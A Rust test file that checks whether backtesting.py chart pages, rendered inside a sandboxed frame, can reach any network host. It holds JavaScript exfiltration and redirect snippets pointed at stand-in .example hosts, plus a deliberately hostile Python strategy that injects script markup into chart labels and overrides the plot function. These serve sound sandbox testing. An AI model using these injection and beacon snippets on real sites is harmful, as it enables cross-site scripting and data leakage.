//! backtesting.py's own chart: it draws without a network, and no script but Bokeh's runs in its page.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use keyrot::EnvMap;
use strategy_gen::StrategyGenerator;
use strategy_gen::backtest::{Chart, Request, Runner};
use strategy_gen::data::{Costs, Dataset, Period, Source};
use strategy_gen::interpreter::Python;
use strategy_gen::python::Linkage;
use strategy_gen::report::plot;
use strategy_gen::sandbox::{Cancel, Level};

use super::ways::{self, Ears, reached};
use super::{Browser, gallery, shows};

/// Names the interpreter.
const PYTHON: &str = "KEYROT_TEST_PYTHON";

#[expect(clippy::disallowed_methods, reason = "tells a test where Python is")]
fn python() -> Python {
    let named = std::env::var_os(PYTHON).map(PathBuf::from);
    let named = named.expect("`KEYROT_TEST_PYTHON` names no Python; hint: `cargo xtask test --live`");
    Python::find(Some(&named), &EnvMap::default()).expect("a Python with backtesting.py")
}

/// The chart of a strategy.
fn chart_of(source: &str) -> Chart {
    let (python, prices) = (python(), Source::Synthetic(3));
    let loaded = prices.load(python.library_folder(), Period::default()).expect("made up");
    let data = Dataset { prices: loaded, costs: Costs::usual(&prices) };
    let mut request = Request::new(source, "rsi.py", vec![data]);
    request.plot = true;
    let stage = PathBuf::from(env!("CARGO_BIN_EXE_stage"));
    let runner = Runner::new(python, stage, Level::Auto).expect("a sandbox");
    let mut report = runner.run(&request, &Cancel::new()).expect("a run");
    report.results[0].plot.take().unwrap_or_else(|| panic!("no chart: {report:#?}"))
}

/// The chart of a strategy of the offline engine.
fn chart() -> &'static Chart {
    static CHART: OnceLock<Chart> = OnceLock::new();
    CHART.get_or_init(|| {
        let generator = StrategyGenerator::offline().linkage(Linkage::Standalone);
        let strategy = generator.translate("Buy when RSI < 30, sell when RSI > 70").expect("understood");
        chart_of(&strategy.code)
    })
}

/// The page of a chart into which markup has slipped all the same.
fn slipped(markup: &str) -> String {
    let page = plot("hostile", chart());
    let (start, end) = page.rsplit_once("</body></html>\"></iframe>").expect("the end of the frame");
    let markup = markup.replace('&', "&amp;").replace('"', "&quot;");
    format!("{start}{markup}</body></html>\"></iframe>{end}")
}

fn size(picture: &Path) -> u64 {
    fs::metadata(picture).expect("a picture").len()
}

#[test]
fn it_is_drawn_and_asks_nobody() {
    let drawn = shows("plot", &plot("Rsi, synthetic:3", chart()));
    let blank = shows("blank", "<!doctype html><title>Rsi, synthetic:3</title>");
    for (drawn, blank) in drawn.iter().zip(&blank) {
        assert!(size(drawn) > 3 * size(blank), "{} is as good as blank", drawn.display());
    }
}

/// Ways out of a page that leave it open, each to a host of its own.
const BESIDE: [(&str, &str); 9] = [
    ("image", "new Image().src = 'https://image.example/'"),
    ("fetch", "fetch('https://fetch.example/', {mode: 'no-cors'})"),
    ("beacon", "navigator.sendBeacon('https://beacon.example/', 'x')"),
    ("socket", "new WebSocket('wss://socket.example/')"),
    ("events", "new EventSource('https://events.example/')"),
    ("script", "add('script', {src: 'https://script.example/'})"),
    ("module", "import('https://module.example/')"),
    ("frame", "add('iframe', {src: 'https://frame.example/'})"),
    ("prefetch", "add('link', {rel: 'prefetch', href: 'https://prefetch.example/'})"),
];

/// Ways out that leave the page behind.
const AWAY: [(&str, &str); 4] = [
    ("itself", "location.href = 'https://itself.example/'"),
    ("top", "top.location.href = 'https://top.example/'"),
    ("form", "add('form', {action: 'https://form.example/'}).submit()"),
    ("refresh", "document.write('<meta http-equiv=refresh content=\"0; url=https://refresh.example/\">')"),
];

/// Which of these hosts a browser asked for something, or prepared to, when it opened a page that goes there, made by
/// `around` of scripts.
fn asked(name: &str, ways: &[(&'static str, &str)], around: impl Fn(&str) -> String) -> Vec<&'static str> {
    let add = "<script>const add = (kind, what) => { \
        const node = Object.assign(document.createElement(kind), what); document.body.append(node); return node }\
        </script>";
    let scripts: String = ways.iter().map(|(_, script)| format!("<script>{script}</script>")).collect();
    let html = around(&format!("{add}{scripts}"));
    let (file, picture) = (gallery().join(format!("{name}.html")), gallery().join(format!("{name}.png")));
    fs::write(&file, html).expect("room");
    let log = Browser::here().log(&file, &picture, "400,400", false).0;
    let is_asked = |host: &str| {
        let urls = ["https", "wss"].map(|scheme| format!("\"url\":\"{scheme}://{host}.example/"));
        urls.iter().any(|url| log.contains(url))
    };
    ways.iter().map(|(host, _)| *host).filter(|host| is_asked(host)).collect()
}

#[test]
fn a_script_that_slipped_into_the_page_reaches_nobody() {
    let pages = [&BESIDE[..]].into_iter().chain(AWAY.chunks(1));
    for ways in pages {
        let name = ways[0].0;
        let inside = asked(&format!("inside-{name}"), ways, slipped);
        assert!(inside.is_empty(), "reached: {inside:?}");
        // As a page of its own it gets out.
        let outside = asked(&format!("outside-{name}"), ways, |scripts| {
            format!("<!doctype html><html><head></head><body>{scripts}</body></html>")
        });
        let hosts: Vec<&str> = ways.iter().map(|(host, _)| *host).collect();
        assert_eq!(outside, hosts);
    }
}

#[test]
fn nor_does_it_on_this_machine() {
    let ears = Ears::open("inside");
    let scripts: String = ears.scripts().iter().map(|script| format!("<script>{script}</script>")).collect();
    let handler = ears.scripts().join(";").replace('"', "&quot;");
    let markup = format!("{scripts}<img src=\"data:,\" onerror=\"{handler}\">");
    let (inside, outside) = reached(&slipped(&markup), &ears);
    assert_eq!(outside, ways::all(), "an ordinary page gets out every way");
    assert!(inside.is_empty(), "reached: {inside:?}");
}

/// A strategy that puts `markup` wherever a text of its own can be, and draws the chart itself.
fn hostile(markup: &str) -> String {
    let markup = format!("{markup:?}");
    format!(
        "import sys
import backtesting, backtesting._plotting
from backtesting import Strategy
EVIL = {markup}
class Hostile(Strategy):
    def init(self):
        for at in range(0, min(len(EVIL), 6000), 50):
            line = self.I(lambda: self.data.Close * 1, name='x', overlay=True)
            line.name = EVIL[at:at + 100]
            line._opts['color'] = EVIL[:100]
        line.name = '$$\\\\href{{https://x.example}}{{x}}$$'
    def next(self):
        if len(self.data) % 40 == 20: self.buy(size=1, tag=EVIL)
        if len(self.data) % 40 == 39: self.position.close()
setattr(Hostile, EVIL, 1)
Hostile.__name__ = Hostile.__qualname__ = '</script></iframe>' + EVIL
def draw(*_, filename='plot-0.html', **__):
    open(filename, 'w').write('<!doctype html>' + EVIL)
backtesting.Backtest.plot = backtesting._plotting.plot = backtesting._plotting.show = draw
for name in ['plot-0.html', 'chart.html', 'draw.py', 'job.json']:
    draw(filename=name)
"
    )
}

#[test]
fn the_page_of_a_hostile_strategy_reaches_nobody_and_still_draws() {
    let ears = Ears::open("inside");
    let markup: String = ears.scripts().iter().map(|script| format!("<script>{script}</script>")).collect();
    let page = plot("</title><script>alert(1)</script>", &chart_of(&hostile(&markup)));
    let (inside, outside) = reached(&page, &ears);
    assert_eq!(outside, ways::all(), "an ordinary page gets out every way");
    assert!(inside.is_empty(), "reached: {inside:?}");
    // Without a word on the console: nothing of what it wanted had to be refused.
    let drawn = shows("hostile", &page);
    let blank = shows("hostile-blank", "<!doctype html><title>blank</title>");
    for (drawn, blank) in drawn.iter().zip(&blank) {
        assert!(size(drawn) > 3 * size(blank), "{} is as good as blank", drawn.display());
    }
}
